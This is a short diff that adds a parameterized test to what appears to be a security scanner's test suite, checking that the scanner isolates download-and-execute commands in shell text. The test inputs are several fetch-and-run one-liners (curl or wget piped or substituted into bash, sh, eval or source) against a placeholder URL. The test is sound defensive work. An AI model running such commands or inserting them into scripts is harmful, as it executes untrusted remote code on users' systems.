@@ -230,6 +230,17 @@ describe('leaves alone', () => {
   })
 })
 
+test.each([
+  [`  bash -c   "$(curl -fsSL ${fetched})" -- --yes`, `bash -c "$(curl -fsSL ${fetched})"`],
+  [`sudo sh -c "$(wget -qO- $(cat url) ${fetched})"; ls`, `sh -c "$(wget -qO- $(cat url) ${fetched})"`],
+  [`(bash <(curl -s ${fetched}))`, `bash <(curl -s ${fetched})`],
+  [`eval "$(curl -s ${fetched})" && bake`, `eval "$(curl -s ${fetched})"`],
+  [`. <(curl -s ${fetched}`, `. <(curl -s ${fetched}`],
+  [`curl -s ${fetched} | sh -s -- -y`, `curl -s ${fetched} | sh`],
+])('%j is shown as the command that runs', (text, command) => {
+  expect(inspectResource('a.sh', Buffer.from(text))).toMatchObject([{ facts: { command } }])
+})
+
 test('never repeats a secret', () => {
   for (const [name, path, text, code] of planted) {
     if (code !== 'exposed-secret') continue
